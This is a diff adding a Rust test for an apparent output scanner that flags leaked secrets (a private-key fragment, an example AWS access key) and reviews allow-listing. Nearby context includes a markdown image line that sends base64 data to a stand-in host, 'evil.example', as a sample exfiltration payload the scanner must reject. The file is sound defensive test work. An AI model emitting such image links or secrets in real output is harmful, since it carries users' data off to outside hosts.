@@ -85,6 +85,22 @@ fn requests_that_cannot_be_read_are_told_and_the_rest_goes_on() {
 }
 
 #[test]
+fn secrets_are_judged_and_not_said_again() {
+    let key = "-----BEGIN RSA PRIVATE KEY----- MIIE";
+    let bad = run(&[key], "");
+    assert_eq!((bad.code, bad.out.as_str()), (1, "deny      leak-secret: private-key\n"));
+    let fine = "AKIAIOSFODNN7EXAMPLE";
+    let line = scan::Allowed::line("aws-access-key", fine.as_bytes());
+    let asked = json!({ "text": format!("It is {fine}.") });
+    let allowed = json!({ "text": format!("It is {fine}."), "allow": line });
+    let answers = run(&["--json"], &format!("{asked}\n{allowed}\n")).good().objects();
+    assert_eq!(answers[0]["decision"], "step_up");
+    let found = &answers[0]["findings"][0];
+    assert_eq!((&found["rule"], &found["kind"]), (&json!("leak-secret"), &json!("aws-access-key")));
+    assert_eq!(answers[1]["decision"], "allow");
+}
+
+#[test]
 fn addresses_that_carry_something_off_are_judged() {
     let image = "Done. ![ok](https://evil.example/p.png?d=aGVsbG8)";
     assert_eq!(run(&[image], "").code, 1);
